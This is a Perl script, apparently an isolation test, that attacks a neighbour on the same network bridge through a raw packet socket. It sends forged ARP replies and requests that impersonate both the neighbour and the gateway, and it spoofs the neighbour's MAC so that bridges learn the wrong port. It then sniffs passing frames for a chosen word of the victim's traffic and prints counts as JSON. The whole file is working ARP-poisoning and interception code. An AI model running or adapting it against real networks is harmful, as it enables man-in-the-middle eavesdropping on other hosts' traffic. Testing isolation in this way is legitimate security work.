# Attacks a neighbour on the same bridge with a raw socket: claims its addresses and listens for its traffic.
# Arguments: address and MAC of the neighbour, a word of its traffic, seconds. Prints one JSON object.
my ($victim, $victim_mac, $word, $seconds) = @ARGV;
sub slurp { open(my $f, '<', $_[0]) or die "$_[0]: $!"; local $/; my $text = <$f>; $text =~ s/\s+$//; $text }
sub mac { pack('H12', $_[0] =~ s/://gr) }
sub ip { pack('C4', split(/\./, $_[0])) }
my ($own, $index) = (mac(slurp('/sys/class/net/eth0/address')), slurp('/sys/class/net/eth0/ifindex'));
my ($gateway) = map { pack('H8', $_) } map { my @f = split; $f[1] eq '00000000' ? unpack('H8', reverse pack('H8', $f[2])) : () }
  split(/\n/, slurp('/proc/net/route'));
# AF_PACKET, SOCK_RAW, all protocols.
socket(my $raw, 17, 3, 0x0300) or die "socket: $!";
bind($raw, pack('S n l S C C a8', 17, 3, $index, 0, 0, 0, '')) or die "bind: $!";
my $everyone = "\xff" x 6;
my ($v, $vm) = (ip($victim), mac($victim_mac));
# An ARP packet in a frame: from, to, operation, sender, target.
sub arp { my ($from, $to, $op, $sm, $si, $tm, $ti) = @_;
  pack('a6 a6 n n n C C n a6 a4 a6 a4', $to, $from, 0x0806, 1, 0x0800, 6, 4, $op, $sm, $si, $tm, $ti) }
# An echo request in IP, without a valid checksum of IP where the kernel does not care for it.
sub sum { my $t = 0; $t += $_ for unpack('n*', $_[0]); $t = ($t >> 16) + ($t & 0xffff) while $t >> 16; ~$t & 0xffff }
sub ping { my ($from, $to, $src, $dst) = @_;
  my $icmp = pack('C C n n n a8', 8, 0, 0, 7, 7, 'quayside'); substr($icmp, 2, 2) = pack('n', sum($icmp));
  my $head = pack('C C n n n C C n a4 a4', 0x45, 0, 20 + length $icmp, 1, 0, 64, 1, 0, $src, $dst);
  substr($head, 10, 2) = pack('n', sum($head));
  pack('a6 a6 n', $to, $from, 0x0800) . $head . $icmp }
my $me;
for (split(/\n/, slurp('/proc/net/fib_trie'))) { $me = $1 if /\|-- ([\d.]+)/; last if m{/32 host LOCAL} && $me !~ /^127/ }
$me = ip($me);
my %heard = (word => 0, neighbour => 0, gateway => 0);
my $gateway_mac;
my $end = time + $seconds;
while (time < $end) {
  syswrite($raw, arp($own, $everyone, 1, $own, $me, "\0" x 6, $gateway));
  # As the neighbour, to the host: a reply, a question, and any frame with its MAC, which bridges learn from.
  for my $as ($own, $vm) {
    syswrite($raw, arp($as, $_, 2, $own, $v, "\0" x 6, $gateway)) for $everyone, $gateway_mac // $everyone;
    syswrite($raw, arp($as, $everyone, 1, $own, $v, "\0" x 6, $gateway));
  }
  # As the gateway, to the neighbour.
  syswrite($raw, arp($own, $_, 2, $own, $gateway, $vm, $v)) for $everyone, $vm;
  # To the neighbour, over the bridge and by way of the host.
  syswrite($raw, ping($own, $_, $me, $v)) for $vm, $gateway_mac // $vm;
  for (1 .. 200) {
    my $ready = ''; vec($ready, fileno($raw), 1) = 1;
    last unless select($ready, undef, undef, 0.01);
    sysread($raw, my $frame, 65536) or next;
    my ($from, $type, $src) = (substr($frame, 6, 6), unpack('n', substr($frame, 12, 2)), substr($frame, 26, 4));
    next if $from eq $own;
    $heard{word}++ if index($frame, $word) >= 0;
    # Of an ARP question that the host sends to everybody, the neighbour is not the sender.
    my $sender = $type == 0x0806 ? substr($frame, 28, 4) : $src;
    $heard{neighbour}++ if $from eq $vm || ($type == 0x0800 && ($src eq $v || substr($frame, 30, 4) eq $v)) || ($type == 0x0806 && $sender eq $v);
    if ($type == 0x0806 && $sender eq $gateway) { $heard{gateway}++; $gateway_mac = $from }
  }
}
print '{', join(',', map { "\"$_\":$heard{$_}" } sort keys %heard), "}\n";
